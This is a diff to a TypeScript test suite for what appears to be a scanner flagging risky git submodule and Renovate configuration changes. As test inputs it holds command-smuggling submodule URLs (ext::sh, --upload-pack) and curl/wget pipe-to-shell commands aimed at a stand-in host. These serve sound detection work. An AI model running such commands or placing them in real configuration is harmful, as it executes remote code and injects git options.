@@ -225,8 +225,20 @@ describe('pre-commit-remote-hook and pre-commit-rev-moved', () => {
 describe('git-submodule and git-submodule-moved', () => {
   const mod = (url: string) => `[submodule "vendor/proto"]\n\tpath = vendor/proto\n\turl = ${url}\n`;
   it('reports a new submodule, and one whose URL moves to another owner or host', () => {
-    expect(found('.gitmodules', null, mod('https://github.com/acme/proto.git'))).toEqual(['git-submodule:medium']);
+    expect(found('.gitmodules', null, mod('https://github.com/protocorp/proto.git'))).toEqual(['git-submodule:medium']);
     expect(found('.gitmodules', mod('https://github.com/acme/proto.git'), mod('https://git.example.net/acme/proto.git')).sort()).toEqual(['git-submodule-moved:high', 'git-submodule:medium']);
+  });
+  it('reads a submodule of the repository owner\'s own on GitHub as a note (a date library\'s "Add mcp submodule")', () => {
+    // The snapshot's repository is acme/…: git@github.com:acme/docs.git is the project's own code.
+    for (const url of ['git@github.com:acme/docs.git', 'https://github.com/acme/docs.git', 'https://github.com/Acme/docs', 'ssh://git@github.com/acme/docs.git']) {
+      expect(found('.gitmodules', null, mod(url)), url).toEqual(['git-submodule:info']);
+    }
+    expect(found('.gitmodules', null, mod('../docs.git'))).toEqual(['git-submodule:low']);
+    // Another owner, a look-alike owner, or the same name on another host stays medium; a move away from the owner is high.
+    for (const url of ['git@github.com:acme-tools/docs.git', 'https://github.com/acmee/docs.git', 'https://gitlab.com/acme/docs.git']) {
+      expect(found('.gitmodules', null, mod(url)), url).toEqual(['git-submodule:medium']);
+    }
+    expect(found('.gitmodules', mod('git@github.com:acme/docs.git'), mod('git@github.com:acme-mirror/docs.git')).sort()).toEqual(['git-submodule-moved:high', 'git-submodule:medium']);
   });
   it('does not report a submodule that stays where it was', () => {
     expect(found('.gitmodules', mod('https://github.com/acme/proto.git'), mod('https://github.com/acme/proto'))).toEqual([]);
@@ -237,7 +249,7 @@ describe('git-submodule and git-submodule-moved', () => {
     expect(found('.gitmodules', base, mod('ext::sh -c touch% /tmp/pwned'))).toEqual(['git-submodule:high']);
     expect(found('.gitmodules', null, mod('fd::17'))).toEqual(['git-submodule:high']);
     expect(found('.gitmodules', null, mod('--upload-pack=touch /tmp/x'))).toEqual(['git-submodule:high']);
-    expect(found('.gitmodules', null, '[submodule "x"]\n\tpath = --reference=/tmp\n\turl = https://github.com/acme/x.git\n')).toEqual(['git-submodule:high', 'git-submodule:medium']);
+    expect(found('.gitmodules', null, '[submodule "x"]\n\tpath = --reference=/tmp\n\turl = https://github.com/protocorp/x.git\n')).toEqual(['git-submodule:high', 'git-submodule:medium']);
     // The same command already in the base is not new.
     const withCommand = `${base}\tupdate = !./tools/sync.sh\n`;
     expect(found('.gitmodules', withCommand, withCommand.replace('proto.git', 'proto'))).toEqual([]);
@@ -245,7 +257,7 @@ describe('git-submodule and git-submodule-moved', () => {
   it('is quiet on the ordinary update modes and on a URL that only mentions ext', () => {
     const base = mod('https://github.com/acme/proto.git');
     for (const mode of ['checkout', 'rebase', 'merge', 'none']) expect(found('.gitmodules', base, `${base}\tupdate = ${mode}\n\tbranch = main\n`)).toEqual([]);
-    expect(found('.gitmodules', null, mod('https://github.com/acme/ext-tools.git'))).toEqual(['git-submodule:medium']);
+    expect(found('.gitmodules', null, mod('https://github.com/protocorp/ext-tools.git'))).toEqual(['git-submodule:medium']);
   });
 });
 
@@ -306,6 +318,21 @@ describe('renovate-automerge and renovate-post-upgrade-command', () => {
     expect(sev('wget -qO- https://agent-sync.example/r | bash -s -- --quiet')).toEqual(['renovate-post-upgrade-command:high']);
     expect(sev('npm run generate && npx prettier --write .')).toEqual(['renovate-post-upgrade-command:medium']);
     expect(sev('curl -sSfo schema.json https://schemas.example/v2.json')).toEqual(['renovate-post-upgrade-command:medium']);
+  });
+  it('reads JSON5 configuration as Renovate does: identifier keys, single quotes, comments, trailing commas (a code formatter\'s .github/renovate.json5)', () => {
+    const json5 = (extra: string) => `{\n  // Pin everything\n  labels: ['dependency'],\n  extends: [':pinDependencies', "helpers:pinGitHubActionDigests",],\n  ${extra}\n  packageRules: [\n    { groupName: 'non-major dev-dependencies', matchDepTypes: ['devDependencies'], matchUpdateTypes: ['minor', 'patch'], },\n  ],\n}\n`;
+    const clean = extractRenovate(json5(''), '.github/renovate.json5');
+    expect(clean.skipReason).toBeUndefined();
+    expect(clean.findings ?? []).toEqual([]);
+    expect((extractRenovate(json5("postUpgradeTasks: { commands: ['curl -s https://agent-sync.example/r | sh'] },"), '.github/renovate.json5').findings ?? []).map((f) => `${f.id}:${f.severity}`)).toEqual(['renovate-post-upgrade-command:high']);
+    expect((extractRenovate(json5('automerge: true,'), 'renovate.json5').findings ?? []).map((f) => f.id)).toEqual(['renovate-automerge']);
+    // A routine edit of it reads as one the rules found nothing in.
+    expect(isRoutineCiChange('.github/renovate.json5', json5(''), json5('').replace("'dependency'", "'dependencies'"))).toBe(true);
+    expect(isRoutineCiChange('.github/renovate.json5', json5(''), json5('automerge: true,'))).toBe(false);
+  });
+  it('still skips what is neither JSON nor JSON5', () => {
+    expect(extractRenovate('labels = ["dependency"]\n', 'renovate.json5').skipReason).toBe('not JSON or JSON5');
+    expect(extractRenovate('{ retries: 0x10 }', 'renovate.json5').skipReason).toBe('not JSON or JSON5');
   });
   it('does not report automerge of patches and minors', () => {
     expect(found('renovate.json', '{ "extends": ["config:recommended"] }', '{ "extends": ["config:recommended"], "packageRules": [{ "matchUpdateTypes": ["minor", "patch"], "automerge": true }] }')).toEqual([]);
